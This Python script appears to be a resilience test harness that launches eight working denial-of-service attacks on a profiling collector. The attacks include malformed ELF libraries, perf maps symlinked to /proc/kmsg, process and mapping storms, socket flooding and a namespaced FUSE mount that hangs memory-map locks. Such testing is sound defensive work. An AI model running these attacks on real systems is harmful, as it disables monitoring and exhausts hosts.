"""What an unprivileged user does to stop a collector: python3 attackers.py ATTACK FOLDER [SOCKET]

Each attack goes on until it is killed. It needs the standard library only, and may write to FOLDER.
"""

import ctypes
import mmap
import os
import socket
import struct
import sys
import threading
import time
from itertools import count
from pathlib import Path

MIB = 1 << 20
_LOAD, _DYNAMIC, _NOTE = 1, 2, 4
keep: list[object] = []


def elf(path: Path, segments: list[tuple[int, int, int]], parts: dict[int, bytes], size: int) -> None:
    """Writes a 64-bit shared library: program headers of (type, offset, size), and bytes at offsets."""
    headers = [struct.pack("<IIQQQQQQ", kind, 5, at, at, at, length, length, 8) for kind, at, length in segments]
    with open(path, "wb") as file:
        file.truncate(size)
        file.write(b"\x7fELF\2\1\1" + bytes(9))
        file.write(struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, len(headers), 64, 0, 0))
        file.write(b"".join(headers))
        for at, data in parts.items():
            file.seek(at)
            file.write(data)


def run_code_of(path: Path) -> None:
    """Maps a file as code, so that the collector looks at it."""
    with open(path, "rb") as file:
        keep.append(mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC))


def burn(seconds: float = 3600.0) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sum(range(10000))


def notes(folder: Path) -> None:
    """Files with 4,096 segments of notes over the same MB of tiny ones."""
    segments = [(_LOAD, 0, 4096), *[(_NOTE, MIB, MIB)] * 4095]
    for number in range(50):
        elf(folder / f"notes-{number}.so", segments, {2 * MIB + 4096 * number: b"\1"}, 3 * MIB)
        run_code_of(folder / f"notes-{number}.so")
    burn()


def relocations(folder: Path) -> None:
    """128 MB of relocations that name one symbol, and as much of a symbol table."""
    tags = {4: 0x1000, 5: 0x2000, 6: 0x3000, 7: MIB, 8: 128 * MIB, 9: 24, 10: 4096, 11: 24}
    dynamic = b"".join(struct.pack("<QQ", tag, value) for tag, value in tags.items()) + bytes(16)
    hashes = struct.pack("<IIII", 1, 2, 1, 0)  # one bucket, which begins with symbol 1
    names = b"\0custom_labels_current_set\0".ljust(4096, b"\0")
    symbol = struct.pack("<IBBHQQ", 1, 0x16, 0, 1, 0, 8)
    relocation = struct.pack("<QQq", 0x4000, 1 << 32 | 18, 0)
    for number in range(3):
        parts = {
            0x800: dynamic, 0x1000: hashes, 0x2000: names, 0x3000: bytes(24) + symbol,
            MIB: relocation * (128 * MIB // 24), 130 * MIB + number: b"\1",
        }  # fmt: skip
        elf(folder / f"r-{number}.so", [(_LOAD, 0, 131 * MIB), (_DYNAMIC, 0x800, len(dynamic))], parts, 131 * MIB)
        run_code_of(folder / f"r-{number}.so")
    burn()


def links(folder: Path) -> None:
    """A perf map that is the log of the kernel, and files whose debug file is said to be there."""
    (Path("/tmp") / f"perf-{os.getpid()}.map").symlink_to("/proc/kmsg")
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb9\xff\xff\xff\x0f\xff\xc9\x75\xfc\xc3")  # mov ecx, 0xfffffff; dec ecx; jnz; ret
    call = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    (folder / ".debug").symlink_to("/proc")
    while True:
        call()


def storm(folder: Path) -> None:
    """Short-lived programs, as fast as it can."""
    while True:
        os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)


def mappings(folder: Path) -> None:
    """New executable files, mapped and unmapped, as fast as it can."""
    for number in count():
        path = folder / f"m-{number % 1000}"
        path.write_bytes(os.urandom(4096))
        with open(path, "rb") as file:
            mmap.mmap(file.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC).close()


def perf_maps(folder: Path) -> None:
    """A perf map that grows without end."""
    keep.append(mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC))
    with open(f"/tmp/perf-{os.getpid()}.map", "w", encoding="ascii") as file:
        for number in count():
            file.writelines(f"{number * 1000 + n:x} 10 {'f' * 200}{n}\n" for n in range(1000))
            if file.tell() > 500 * MIB:
                break
    burn()


def activity(folder: Path) -> None:
    """Garbage to the socket of activity."""
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sender.connect(sys.argv[3])
    while True:
        sender.send(os.urandom(1000))


def memory(folder: Path) -> None:
    """Processes whose memory does not answer: a thread that waits for a page for good keeps the lock of the map."""
    users, groups = f"0 {os.getuid()} 1", f"0 {os.getgid()} 1"
    libc = ctypes.CDLL(None, use_errno=True)

    def need(result: int) -> None:
        if result:
            raise OSError(ctypes.get_errno(), "unshare or mount")

    need(libc.unshare(0x10020000))  # CLONE_NEWUSER | CLONE_NEWNS
    for name, text in (("setgroups", "deny"), ("uid_map", users), ("gid_map", groups)):
        Path("/proc/self", name).write_text(text)
    device = os.open(folder / "fuse", os.O_RDWR)
    file = folder / "silent"
    file.touch()
    options = f"fd={device},rootmode=100755,user_id=0,group_id=0"
    need(libc.mount(b"silent", bytes(file), b"fuse", 6, options.encode()))  # MS_NOSUID | MS_NODEV
    if not os.fork():
        serve_all_but_pages(device)
    os.close(device)  # else the mount would outlive its server
    silent = os.open(file, os.O_RDONLY)
    os.fstat(silent)  # until then the kernel takes it to be empty
    for _ in range(4):  # one more than the collector waits for of one user
        if not os.fork():
            hang(silent)
    os.wait()


def serve_all_but_pages(device: int) -> None:
    """The server of a FUSE file system (linux/fuse.h) that is one file, until it is killed."""
    attributes = struct.pack("<QII", 3600, 0, 0) + struct.pack("<6Q10I", 1, MIB, *[0] * 7, 0o100755, 1, *[0] * 5)
    version = struct.pack("<7I", 7, 31, 0, 0, 0, MIB, 0).ljust(64, b"\0")
    answers = {26: version, 3: attributes, 14: bytes(16), 18: b"", 25: b""}  # INIT, GETATTR, OPEN, RELEASE, FLUSH
    while True:
        _, kind, unique = struct.unpack_from("<IIQ", os.read(device, 2 * MIB))
        if kind not in (2, 15, 36):  # FORGET, READ, INTERRUPT
            answer = answers.get(kind, b"")
            error = 0 if kind in answers else -38  # ENOSYS
            os.write(device, struct.pack("<IiQ", 16 + len(answer), error, unique) + answer)


def hang(file: int) -> None:
    """Keeps the lock of its own memory map, for good, and uses CPU."""
    map_page = ctypes.CDLL(None).mmap
    map_page.restype = ctypes.c_void_p
    map_page.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    of_file = (None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, file, 0)
    silent = map_page(*of_file)
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xeb\xfe")  # jmp to itself: a loop that needs no memory
    loop = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    threading.Timer(0.5, os.pread, (memory, 1, silent)).start()
    threading.Timer(1, map_page, of_file).start()  # a reader of the map waits behind it
    loop()


ATTACKS = {
    function.__name__: function
    for function in (notes, relocations, links, storm, mappings, perf_maps, activity, memory)
}  # fmt: skip

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](Path(sys.argv[2]))
